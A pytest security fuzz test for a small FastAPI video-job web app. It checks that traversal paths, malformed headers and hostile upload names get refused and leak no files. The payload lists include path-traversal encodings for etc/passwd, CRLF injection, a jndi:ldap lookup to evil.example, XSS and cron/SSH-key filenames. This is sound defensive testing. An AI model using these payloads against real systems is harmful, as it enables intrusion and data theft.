"""Ten thousand attacks with addresses and headers, generated: nothing outside is told, nothing is a bug."""

from __future__ import annotations

import itertools
import logging
import random
from collections.abc import Iterator
from pathlib import Path

import pytest

pytest.importorskip("fastapi", reason="the extra 'web' is not installed: the server is not tested")

from asked import HOST, ask, ended, form, left_in, run, running, upload

CANARY = b"canary-8f2b"
#: What the answers to a wrong request may be; 200 only where the address leads to something that is public.
REFUSED = {400, 401, 403, 404, 405, 408, 409, 411, 413, 414, 415, 416, 421, 422}

UP = [
    "..",
    "%2e%2e",
    "%2E.",
    ".%2e",
    "..;",
    "%252e%252e",
    "%c0%ae%c0%ae",
    "..%00",
    "....",
    "%uff0e%uff0e",
    "．．",
]
SLASH = ["/", "%2f", "%2F", "\\", "%5c", "%252f", "%c0%af", "//", "/./", "%00/", "%ef%bc%8f"]
ENDS = [
    "canary",
    "canary.mp4",
    "etc/passwd",
    "proc/self/environ",
    "jobs.sqlite",
    "uploads",
    "lock",
    "results/records",
    "",
]
STARTS = [
    "/", "/static/", "/jobs/", "/api/v1/jobs/", "/ui/jobs/", "/api/", "/jobs/{id}/media/",
    "/jobs/{id}/thumbnails/",
    "/api/v1/jobs/{id}/", "/static/vadd.css/", "/jobs/{id}/", "/file:/", "/static",
]  # fmt: skip
METHODS = ["GET", "POST", "HEAD", "DELETE", "PUT", "OPTIONS"]


def addresses(chance: random.Random, id_: str, outside: Path) -> Iterator[tuple[str, str]]:
    """Method and address, with as many folders up as it takes and all ways to write that."""
    while True:
        start, up, slash = chance.choice(STARTS).replace("{id}", id_), chance.choice(UP), chance.choice(SLASH)
        end = chance.choice([*ENDS, f"{outside}/canary", f"{str(outside)[1:]}/canary"]).replace("/", slash)
        tail = chance.choice(["", "", ".jpg", "%00.jpg", "?x=1", ";.css", "/", "%0d%0aset-cookie:a=b", "#x"])
        yield chance.choice(METHODS[:3]), start + (up + slash) * chance.randint(0, 9) + end + tail


def headers(chance: random.Random) -> Iterator[list[tuple[bytes, bytes]]]:
    """A request's headers with one or more that are wrong."""
    names = [
        b"host", b"origin", b"range", b"content-length", b"transfer-encoding", b"content-type",
        b"authorization",
        b"cookie", b"x-forwarded-for", b"x-forwarded-host", b"forwarded", b"sec-fetch-site",
        b"sec-fetch-mode", b"accept",
        b"accept-language", b"if-none-match", b"if-range", b"last-event-id", b"hx-request", b"hx-current-url",
        b"referer", b"upgrade", b"connection", b"te", b"expect", b"x-http-method-override", b"x-original-url",
    ]  # fmt: skip
    values = [
        b"", b" ", b"*", b"null", b"evil.example", b"http://evil.example", b"a\r\nset-cookie: x=y",
        b"\xff\xfe", b"\0",
        b"bytes=" + b"0-," * 500, b"bytes=-" + b"9" * 400, b"9" * 400, b"-1", b"chunked, chunked",
        b"../../../etc/passwd",
        b"vadd_session=" + b"9" * 200 + b"." + b"0" * 64, b"vadd_session=\xff.\xff", b"language=../../etc",
        b"Bearer \xff",
        b"multipart/form-data; boundary=" + b"a" * 300, b"multipart/form-data; boundary=\"",
        b"application/json; charset=\xff",
        b"${jndi:ldap://evil.example}", b"<script>alert(1)</script>", b"%s%n%x", b"a" * 9000,
        b"127.0.0.1:8750, evil.example",
        b"same-site", b"de;q=nan, \xff;q=1e999", b"0x7f.1:8750", HOST.encode(),
    ]  # fmt: skip
    while True:
        made = [(b"host", HOST.encode())]
        made += [(chance.choice(names), chance.choice(values)) for _ in range(chance.randint(1, 4))]
        if chance.random() < 0.2:
            del made[0]
        yield made


def test_ten_thousand(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "canary").write_bytes(CANARY)
    (tmp_path / "state").mkdir()
    (tmp_path / "canary").write_bytes(CANARY)
    (tmp_path / "canary.mp4").write_bytes(CANARY)
    chance = random.Random(20)

    async def work() -> None:
        async with running(tmp_path / "state") as app:
            id_ = (await upload(app, b"not for everybody", "clip.mp4")).json()["id"]
            await ended(app, id_)
            before = left_in(tmp_path / "state")
            by_address, by_header = addresses(chance, id_, outside), headers(chance)
            for method, address in itertools.islice(by_address, 6000):
                answer = await ask(app, method, address)
                told = answer.body + repr(answer.headers).encode()
                assert CANARY not in told, (method, address)
                assert b"root:" not in told, (method, address)
                assert b"SQLite" not in told, (method, address)
                assert "set-cookie" not in answer.headers or "/language" in address
                nothing = address.startswith("/ui/jobs/") and not answer.body
                assert answer.status in REFUSED or public(address, id_) or nothing, (method, address, answer)
            paths = ["/", f"/jobs/{id_}", f"/jobs/{id_}/media", "/api/v1/jobs",
            f"/api/v1/jobs/{id_}/result", "/login",
                     "/static/vadd.css", "/language?to=de", f"/api/v1/jobs/{id_}/events",
                     "/ui/jobs"]  # fmt: skip
            for given in itertools.islice(by_header, 4000):
                path, method = chance.choice(paths), chance.choice(METHODS[:3])
                body = chance.choice([b"", b"x", b"{}", form(file=("a", b"x"))[0][:50]])
                answer = await ask(app, method, path, body, given)
                assert answer.status in REFUSED | {200, 204, 206, 303, 304}, (
                    method,
                    path,
                    given,
                    answer.body,
                )
                assert b"\r\n" not in repr(answer.headers).encode()
                assert "evil" not in repr(answer.headers)
                if len([1 for name, _ in given if name == b"host"]) != 1:
                    assert answer.status == 400
            assert left_in(tmp_path / "state") == before
            assert [job.id for job in app.state.vadd.jobs()] == [id_]

    with caplog.at_level(logging.ERROR):
        run(work())
    assert "a bug in the answer" not in caplog.text


def public(address: str, id_: str) -> bool:
    """Whether an address, read as it is, leads to something that may be told."""
    from urllib.parse import unquote

    path = unquote(address.partition("?")[0].partition("#")[0])
    known = {"/", f"/jobs/{id_}", f"/jobs/{id_}/", f"/jobs/{id_}/media"}
    return path in known


@pytest.mark.parametrize("name", [
    "../../../../tmp/canary", "..\\..\\canary", "/etc/cron.d/x", "a\0b", "C:\\x", "~/.ssh/authorized_keys",
    "%2e%2e%2fx",
    "file\r\nSet-Cookie: a=b", '"; name="picture', "x" * 4000, "<img src=x onerror=alert(1)>.mp4",
    "\u202egpj.mp4", "=1+1",
])  # fmt: skip
def test_names_of_uploads_are_only_shown(tmp_path: Path, name: str) -> None:
    async def work() -> None:
        async with running(tmp_path) as app:
            before = {path for path in tmp_path.rglob("*") if "scratch" not in path.parts}
            sent = name.replace("\\", "\\\\").replace('"', '\\"')
            answer = await upload(app, b"bytes", sent)
            assert answer.status in {201, 400, 422}
            if answer.status != 201:
                assert left_in(tmp_path) == []
                return
            id_ = answer.json()["id"]
            await ended(app, id_)
            new = {path for path in tmp_path.rglob("*") if "scratch" not in path.parts} - before
            uploads = [path for path in new if path.parent == tmp_path / "uploads"]
            assert len(uploads) == 1
            assert len(uploads[0].name) == 32
            for path in ("report.csv", "spans.srt", "result.json"):
                got = await ask(app, "GET", f"/api/v1/jobs/{id_}/{path}")
                told = got.headers["content-disposition"]
                assert told.isascii()
                assert told.isprintable()
                assert "/" not in told.replace("UTF-8''", "")
                assert ".." not in told.partition("filename=")[2][:4]
            page = await ask(app, "GET", f"/jobs/{id_}")
            assert b"<img src=x" not in page.body
            csv = (await ask(app, "GET", f"/api/v1/jobs/{id_}/report.csv")).body.decode().splitlines()[1]
            assert not csv.startswith("=")

    run(work())
